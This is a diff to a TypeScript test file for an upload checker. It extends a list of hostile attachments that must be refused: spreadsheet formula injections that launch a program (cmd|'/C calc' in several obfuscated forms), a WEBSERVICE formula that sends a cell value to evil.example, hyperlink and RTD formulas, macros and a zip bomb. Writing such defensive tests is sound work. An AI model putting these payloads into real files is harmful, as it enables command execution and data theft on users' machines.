@@ -1,8 +1,7 @@
 import sharp from 'sharp'
 import { expect, test } from 'vitest'
 import { scannedPdf } from '../../inventory/testing.ts'
-import { docx } from '../../submissions/testing.ts'
-import { withType, workbook } from '../testing.ts'
+import { docx, withType, workbook } from '../../uploads/testing.ts'
 import { checkFile } from './check-file.ts'
 
 const sender = { whose: 'somebody', allowMegapixels: async () => {} }
@@ -42,6 +41,18 @@ test('a photograph is encoded anew in its own format: what was hidden in it is g
   expect(await sharp(png.bytes).metadata()).toMatchObject({ format: 'png', width: 300 })
 })
 
+const sheet = (cells: string) =>
+  workbook({ 'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row>${cells}</row></sheetData></worksheet>` })
+
+test('formulas and figures of lists are taken', async () => {
+  const list = Buffer.from(
+    'Part,Qty,Note\n="00123",-5,"call (904) 555-0100"\n+1 904 555 0100,@home,-4.5\n-5,3|4 in,Great!\n=A1+B2,1,2\n',
+  )
+  expect(await check(list)).toMatchObject({ type: 'csv' })
+  const formulas = sheet('<c><f>SUM(A1:A9)</f></c><c><f>\'A|B\'!C1</f></c><c><f>IF(A1="call (1)",1,2)</f></c>')
+  expect(await check(formulas)).toMatchObject({ type: 'xlsx' })
+})
+
 const HOSTILE: [string, () => Uint8Array | string, string][] = [
   ['nothing', () => '', 'ATTACHMENT_TYPE'],
   ['a page of the web', () => '<!doctype html><script>alert(1)</script>', 'ATTACHMENT_TYPE'],
@@ -55,6 +66,36 @@ const HOSTILE: [string, () => Uint8Array | string, string][] = [
   ['a PDF with a script', () => scannedPdf('x', '4 0 obj\n<< /S /JavaScript >>\nendobj\n'), 'ATTACHMENT_ACTIVE'],
   ['half a photograph', () => '\xff\xd8\xff\xe0 and no more', 'PICTURE_BROKEN'],
   ['a list that starts a program', () => "Part,Price\n=cmd|'/C calc'!A0,1\n", 'ATTACHMENT_ACTIVE'],
+  ['a list that fetches', () => 'Part,Price\n=WEBSERVICE("https://evil.example/"&A1),1\n', 'ATTACHMENT_ACTIVE'],
+  [
+    'a list with a link as a formula',
+    () => 'Part\n" =HYPERLINK(""https://e.example/"",""AN3-5A"")"\n',
+    'ATTACHMENT_ACTIVE',
+  ],
+  [
+    'a list that starts a program, behind many characters',
+    () => `Part\n=${'1+'.repeat(300)}cmd|'/C calc'!A0\n`,
+    'ATTACHMENT_ACTIVE',
+  ],
+  ['a topic with commas', () => "Part\tPrice\n@SUM(1)*cmd|'/C calc a, b'!A0\t1\n", 'ATTACHMENT_ACTIVE'],
+  ['full-width signs', () => Buffer.from("Part\n＝cmd|'/C calc'!A0\n"), 'ATTACHMENT_ACTIVE'],
+  ['a workbook that starts a program', () => sheet("<c><f>cmd|' /C calc'!A0</f></c>"), 'ATTACHMENT_ACTIVE'],
+  [
+    'such a formula in pieces',
+    () => sheet("<c><x:f>cmd&#x7c;<![CDATA[' /C calc']]><!-- -->!A0</x:f></c>"),
+    'ATTACHMENT_ACTIVE',
+  ],
+  [
+    'a workbook that asks an address',
+    () => sheet('<c><f>_xlfn.WEBSERVICE("https://e.example/")</f></c>'),
+    'ATTACHMENT_ACTIVE',
+  ],
+  [
+    'a name that does',
+    () => workbook({ 'xl/workbook.xml': '<workbook><definedName>RTD("x",,"y")</definedName></workbook>' }),
+    'ATTACHMENT_ACTIVE',
+  ],
+  ['a sheet that is no XML', () => sheet('<c>'), 'ATTACHMENT_BROKEN'],
   ['macros', () => workbook({ 'xl/vbaProject.bin': 'x' }), 'ATTACHMENT_ACTIVE'],
   [
     'macros by another name',
@@ -86,7 +127,7 @@ test.each(HOSTILE)('%s is refused', async (_, bytes, code) => {
 })
 
 test('a zip bomb in many parts is one, and a part that cannot be unpacked breaks it', async () => {
-  const piece = Buffer.alloc(20 * 2 ** 20, ' ')
+  const piece = Buffer.from(`<sheet>${' '.repeat(20 * 2 ** 20)}</sheet>`)
   const parts = Object.fromEntries(Array.from({ length: 8 }, (_, at) => [`xl/worksheets/sheet${at + 2}.xml`, piece]))
   await expect(check(workbook(parts))).rejects.toMatchObject({ code: 'ATTACHMENT_UNPACKS' })
   const broken = workbook()
